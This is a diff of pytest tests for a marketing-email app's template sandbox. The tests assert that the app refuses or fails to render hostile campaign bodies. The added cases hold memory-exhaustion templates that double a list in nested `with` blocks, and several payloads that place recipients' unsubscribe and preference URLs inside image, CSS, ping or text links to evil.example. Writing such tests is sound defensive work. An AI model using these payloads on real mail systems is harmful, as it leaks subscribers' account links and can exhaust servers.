@@ -192,6 +192,14 @@ AMPLIFIERS = [
     # Little output, much work per pass: the clock stops it.
     "{% for a in contact.attributes.items %}{{ contact.attributes.blob|slugify|length }}"
     "{% endfor %}",
+    # A list doubled at each `with` renders nothing until the end: it held gigabytes.
+    "{% with a=contact.attributes.blob|make_list %}"
+    + "".join(f"{{% with a{i}=a|add:a %}}{{% with a=a{i} %}}" for i in range(8))
+    + "{{ a|length }}"
+    + "{% endwith %}{% endwith %}" * 8
+    + "{% endwith %}",
+    # Much work per `with`, no loop and no output: the clock is read in every block.
+    "{% with a=contact.attributes.blob|slugify|length %}{{ a }}{% endwith %}" * 1000,
 ]
 BIG = {"items": list(range(2_000)), "blob": "x" * 300_000}
 
@@ -297,3 +305,146 @@ def test_a_scheduled_campaign_the_sandbox_refuses_does_not_stop_the_sweep(topic)
     legacy.refresh_from_db()
     fine.refresh_from_db()
     assert (legacy.status, fine.status) == (CampaignStatus.SCHEDULED, CampaignStatus.SENDING)
+
+
+@pytest.mark.parametrize("depth", [150, 3000])
+def test_the_api_refuses_a_template_nested_too_deep_instead_of_a_500(api, topic, depth):
+    body = "{% if 1 %}" * depth + "x" + "{% endif %}" * depth
+
+    response = create(api, topic, text_body=body)
+
+    assert response.status_code == 400, response.content
+    assert response.json()["error"] == "invalid_template"
+    assert "nested" in response.json()["detail"]
+    assert not Campaign.objects.exists()
+
+
+def test_a_template_nested_a_little_still_renders(topic):
+    body = "{% if 1 %}" * 50 + "{{ contact.email }}" + "{% endif %}" * 50
+    campaign = CampaignFactory.build(topic=topic, subject="Hi", text_body=body, html_body="")
+
+    message = render_marketing_message(campaign=campaign, contact=ContactFactory.build())
+
+    assert "@" in message.text
+
+
+def test_a_list_doubled_in_nested_withs_is_stopped_before_it_grows(topic):
+    # Each level doubles a list and renders nothing: 20 levels over an address are 120 MB,
+    # a few more are gigabytes.
+    body = (
+        "{% with a=contact.email|make_list %}"
+        + "".join(f"{{% with a{i}=a|add:a %}}{{% with a=a{i} %}}" for i in range(20))
+        + "{{ a|length }}"
+        + "{% endwith %}{% endwith %}" * 20
+        + "{% endwith %}"
+    )
+    campaign = CampaignFactory.build(topic=topic, subject="Hi", text_body=body, html_body="")
+
+    with pytest.raises(RenderBudgetExceeded, match="made a value too long"):
+        render_marketing_message(campaign=campaign, contact=ContactFactory.build())
+
+
+# --- the recipient's own links: placed as links, never inside another site's URL --------------
+
+# A mailbox provider fetches images on delivery: each of these handed every recipient's fresh
+# preference link (which joins topics) or unsubscribe link to evil.example, with no click.
+LINK_USES_REFUSED = [
+    '<img src="https://evil.example/p?{{ preferences_url|urlencode }}">',
+    '{% with u=preferences_url %}<img src="https://evil.example/{{ u }}">{% endwith %}',
+    '{% if preferences_url|slice:"-3:" == "ab/" %}<img src="https://evil.example/1">{% endif %}',
+    '<img src="https://evil.example/?{% filter urlencode %}{{ preferences_url }}{% endfilter %}">',
+    "{% firstof unsubscribe_url %}",
+]
+
+
+@pytest.mark.parametrize("body", LINK_USES_REFUSED)
+def test_the_api_refuses_a_body_that_does_more_than_place_a_link(api, topic, body):
+    response = create(api, topic, html_body=body)
+
+    assert response.status_code == 400, response.content
+    assert response.json()["error"] == "invalid_template"
+    assert not Campaign.objects.exists()
+
+
+def test_the_api_refuses_the_links_in_a_subject(api, topic):
+    response = create(api, topic, subject="Hi {{ preferences_url }}")
+
+    assert response.status_code == 400, response.content
+    assert response.json()["error"] == "invalid_template"
+
+
+LINK_CONTEXTS_REFUSED = [
+    ("html_body", '<img src="https://evil.example/p?u={{ preferences_url }}">'),
+    ("html_body", '<a href="https://evil.example/?{{ unsubscribe_url }}">win</a>'),
+    ("html_body", '<div style="background:url(https://evil.example/{{ preferences_url }})">'),
+    ("html_body", "<style>p{background:url(https://evil.example/{{ preferences_url }})}</style>"),
+    ("html_body", '<!--[if mso]><v:image src="https://evil.example/{{ preferences_url }}"/>'),
+    ("html_body", "<img src='https://evil.example/?<a href=\"{{ preferences_url }}\">'>"),
+    ("html_body", "<p>https://evil.example/?u={{ preferences_url }}</p>"),
+    ("html_body", '<a href="{{ preferences_url }}" ping="https://evil.example/">here</a>'),
+    ("text_body", "Win a prize: https://evil.example/?u={{ preferences_url }}"),
+]
+
+
+@pytest.mark.parametrize(("field", "body"), LINK_CONTEXTS_REFUSED)
+def test_a_link_inside_another_sites_url_is_never_sent(topic, outbox, field, body):
+    bodies = {"html_body": "<p>Hi</p>", "text_body": "Hi", field: body}
+    campaign = CampaignFactory(topic=topic, status=CampaignStatus.SENDING, **bodies)
+    subscribers(topic, 2)
+    sending.campaign_build_audience(campaign=campaign)
+
+    result = sending.send_until_done(campaign=campaign)
+
+    assert (result.sent, result.failed) == (0, 2)
+    assert not any("evil.example" in str(message.message()) for message in outbox)
+    assert "could not render" in Delivery.objects.filter(status="failed").first().error
+
+
+def test_the_preview_names_a_misplaced_link_instead_of_showing_it(admin_client, topic):
+    campaign = CampaignFactory(
+        topic=topic, html_body='<img src="https://evil.example/p?u={{ preferences_url }}">'
+    )
+
+    response = admin_client.get(reverse("admin:subscriptions_campaign_preview", args=[campaign.pk]))
+
+    assert response.status_code == 200
+    assert "could not render: LinkMisplaced" in response.text
+
+
+PLACED = [
+    "<p><a href=\"{{ unsubscribe_url }}\">Leave</a> or <a href='{{ preferences_url }}'>"
+    "choose</a></p>",
+    "<p>{{ unsubscribe_url }}</p><p>Your page: {{ preferences_url }}.</p>",
+    "<p>Leave:&nbsp;{{ unsubscribe_url }}</p><p>(<a href={{ preferences_url }}>yours</a>)</p>",
+]
+
+
+@pytest.mark.parametrize("body", PLACED)
+def test_links_placed_as_links_still_work(topic, alice, body):
+    campaign = CampaignFactory.build(topic=topic, subject="Hi", html_body=body, text_body="")
+
+    message = render_marketing_message(campaign=campaign, contact=alice)
+
+    assert message.html.count("/unsubscribe/") == 1  # placed by the body, not repeated
+    assert message.html.count("/preferences/") == 1
+
+
+def test_a_body_that_hides_its_unsubscribe_link_still_carries_one(topic, alice):
+    """`_places` read the source: a link placed inside a false `{% if %}` dropped the footer's
+    link, and the mail went out with no unsubscribe or preference link in its body."""
+    hidden = (
+        '{% if contact.attributes.never %}<a href="{{ unsubscribe_url }}">x</a>'
+        '<a href="{{ preferences_url }}">y</a>{% endif %}<p>Hi</p>'
+    )
+    campaign = CampaignFactory.build(
+        topic=topic,
+        subject="Hi",
+        html_body=hidden,
+        text_body="{% if contact.attributes.never %}{{ unsubscribe_url }}{% endif %}Hi",
+    )
+
+    message = render_marketing_message(campaign=campaign, contact=alice)
+
+    for body in (message.text, message.html):
+        assert "/unsubscribe/" in body
+        assert "/preferences/" in body
